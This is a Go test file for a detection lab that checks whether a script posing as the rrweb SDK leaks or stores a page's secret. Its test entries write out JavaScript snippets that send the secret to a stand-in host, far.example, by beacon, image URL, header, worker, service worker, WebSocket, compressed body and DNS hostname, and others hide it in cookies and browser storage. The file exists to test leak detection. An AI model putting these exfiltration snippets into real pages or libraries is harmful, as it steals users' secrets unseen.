package lab_test

import (
	"fmt"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"replaylab/lab/result"
)

// secretive is a page with a secret that it sends to its own server and keeps itself.
const secretive = `A page keeps a secret with its own server.

-- scenario --
open       /page.html?token=${secret:query}
click      #go
checkpoint pressed
-- page.html --
<!doctype html>
<title>Secretive</title>
<p id="s">${secret:text}</p>
<button id="go">Go</button>
<script>
document.cookie = 'own=${secret:text}';
localStorage.own = '${secret:text}';
go.onclick = () => fetch('/own/1?t=${secret:text}', {method: 'POST', body: '${secret:text}', headers: {'X-Own': '${secret:text}'}});
</script>
-- own/1 --
taken
-- sw.js --
onmessage = e => e.waitUntil(fetch('https://far.example/sw', {method: 'POST', mode: 'no-cors', body: e.data}));
onactivate = e => e.waitUntil(clients.claim());
`

// leaker is a bundle in rrweb's place that runs code with the page's secret, as s, once it is pressed.
func leaker(code string) string {
	return `var rrweb = {record() { addEventListener('click', async () => { const s = document.querySelector('#s').textContent; ` + code + ` }); return () => {} }};`
}

var _ = Describe("A secret", func() {
	DescribeTable("that the SDK sends or keeps is found, and where",
		func(ctx SpecContext, code, kind, where string) {
			r := runWith(ctx, secretive, leaker(code))
			c := failed(r, "no leak")
			Expect(c.Evidence).To(ConsistOf(SatisfyAll(HaveField("Kind", kind), HaveField("Name", "text"), HaveField("Detail", ContainSubstring(where)))), fmt.Sprint(c.Evidence))
		},
		Entry("by a beacon", `navigator.sendBeacon('https://far.example/b', 'x' + s)`, "leak", "POST https://far.example/b: body, plain: x", budget),
		Entry("by an image", `new Image().src = 'https://far.example/i.png?q=' + btoa(s)`, "leak", "GET https://far.example/i.png?q=", budget),
		Entry("in a header", `fetch('https://far.example/h', {headers: {'X-Note': s}})`, "leak", "GET https://far.example/h: header X-Note", budget),
		Entry("in a worker", `new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch("https://far.example/w", {method: "POST", mode: "no-cors", body: e.data})']))).postMessage(s)`, "leak", "POST https://far.example/w: body", budget),
		Entry("in a service worker", `const reg = await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; (reg.active || reg.waiting || reg.installing).postMessage(s)`, "leak", "POST https://far.example/sw: body", budget),
		Entry("over a WebSocket", `const w = new WebSocket('wss://far.example/s'); w.onopen = () => w.send(JSON.stringify({s: [...s].reverse().join('')}))`, "leak", "MESSAGE wss://far.example/s: body, reversed", budget),
		Entry("compressed", `fetch('https://far.example/z', {method: 'POST', body: await new Response(new Blob([JSON.stringify({s})]).stream().pipeThrough(new CompressionStream('deflate'))).blob()})`, "leak", "POST https://far.example/z: body, decompression", budget),
		Entry("to the page's own server", `fetch('/other', {method: 'POST', body: s.slice(2, 8)})`, "leak", "POST ${origin:a}/other: body, a piece of it", budget),
		Entry("in plain to this machine", `fetch('http://127.0.0.1:4321/x?' + encodeURIComponent(JSON.stringify({s})))`, "leak", "GET http://127.0.0.1:4321/x", budget),
		Entry("in the name of a host", `fetch('http://' + s + '.example/', {mode: 'no-cors'})`, "leak", "GET http://", budget),
		Entry("in a cookie", `document.cookie = 'k=' + btoa(s)`, "stored", "cookie of a.localhost/, key \"k\", at pressed, base64", budget),
		Entry("in local storage", `localStorage['k' + s] = 1`, "stored", "localStorage of ${origin:a}", budget),
		Entry("in session storage", `sessionStorage.k = s`, "stored", "sessionStorage of ${origin:a}, key \"k\"", budget),
		Entry("in the window's name", `name = s`, "stored", "window.name", budget),
		Entry("in IndexedDB", `const o = indexedDB.open('db'); o.onupgradeneeded = () => o.result.createObjectStore('st'); o.onsuccess = () => { o.result.transaction('st', 'readwrite').objectStore('st').put(new Map([['v', new TextEncoder().encode(s)]]), 'key') }`, "stored", "IndexedDB db st of ${origin:a}, key \"key\", at pressed", budget),
		Entry("in a cache", `(await caches.open('c')).put('/c', new Response(s))`, "stored", "Cache Storage c of ${origin:a}", budget),
		Entry("in a private file", `const h = await (await navigator.storage.getDirectory()).getFileHandle('f', {create: true}); const w = await h.createWritable(); await w.write(s); await w.close()`, "stored", "private files of ${origin:a}, key \"f\"", budget),
	)

	It("that the page itself sends and keeps is no leak", func(ctx SpecContext) {
		r := runWith(ctx, secretive, leaker(`fetch('https://far.example/', {method: 'POST', body: 'nothing'}); localStorage.sdk = 1; fetch('/own/2?t=')`))
		Expect(claims(r, "no leak")).To(ConsistOf(HaveField("Verdict", result.Held)), fmt.Sprint(r.Claims))
	}, budget)

	It("is looked for although the page's clock is the lab's", func(ctx SpecContext) {
		text := `A page waits.
-- scenario --
open       /page.html
advance    1s
checkpoint later
-- page.html --
<!doctype html>
<p id=s>${secret:text}</p>
`
		code := `var rrweb = {record() { setTimeout(() => { const s = document.querySelector('#s').textContent;
			fetch('https://far.example/v', {method: 'POST', body: s, mode: 'no-cors'});
			localStorage.k = s }, 500); return () => {} }};`
		c := failed(runWith(ctx, text, code), "no leak")
		Expect(c.Evidence).To(ConsistOf(HaveField("Kind", "leak"), HaveField("Kind", "stored")))
	}, budget)
})
